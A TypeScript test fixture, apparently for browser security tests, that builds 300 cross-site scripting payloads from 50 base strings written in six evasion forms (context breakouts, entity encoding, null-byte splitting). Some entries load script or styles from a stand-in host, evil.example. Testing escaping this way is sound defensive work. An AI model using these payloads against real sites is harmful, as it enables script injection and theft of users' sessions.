/** Three hundred texts that run a script where a page takes them for markup, an address or code. */

/** Each calls a function that the browser's test counts. */
const TEXTS = [
  '<script>alert(1)</script>',
  '<script src=//evil.example/x.js></script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<math><mtext><script>alert(1)</script></mtext></math>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<a href="javascript:alert(1)">x</a>',
  '<base href="//evil.example/">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css";</style>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[><script>alert(1)</script>]]>',
  '<xss style="animation-name:x" onanimationstart="alert(1)">',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  ' javascript:alert(1)',
  'javascript\n:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml,<svg onload=alert(1)>',
  '//evil.example/x',
  '\\\\evil.example\\x',
  'https:\\\\evil.example',
  'view-source:javascript:alert(1)',
  "';alert(1);//",
  '";alert(1);//',
  '`${alert(1)}`',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '\u2028alert(1)\u2029',
]

const entities = (text: string): string => Array.from(text, (char) => `&#${char.codePointAt(0)};`).join('')

/** Each is written in six ways. */
const WAYS: ((text: string) => string)[] = [
  (text) => text,
  (text) => `"'>${text}`,
  (text) => `</script></title></textarea></style>${text}`,
  (text) => `"}]}</script>${text}`,
  entities,
  (text) => text.replaceAll('<', '<\u0000').replaceAll('alert', 'ale\u0000rt'),
]

/** PostgreSQL stores no zero character: U+FFFD, which parsers put in its place. */
export const HOSTILE_TEXTS: readonly string[] = WAYS.flatMap((way) => TEXTS.map(way)).map((text) =>
  text.replaceAll('\u0000', '\ufffd'),
)
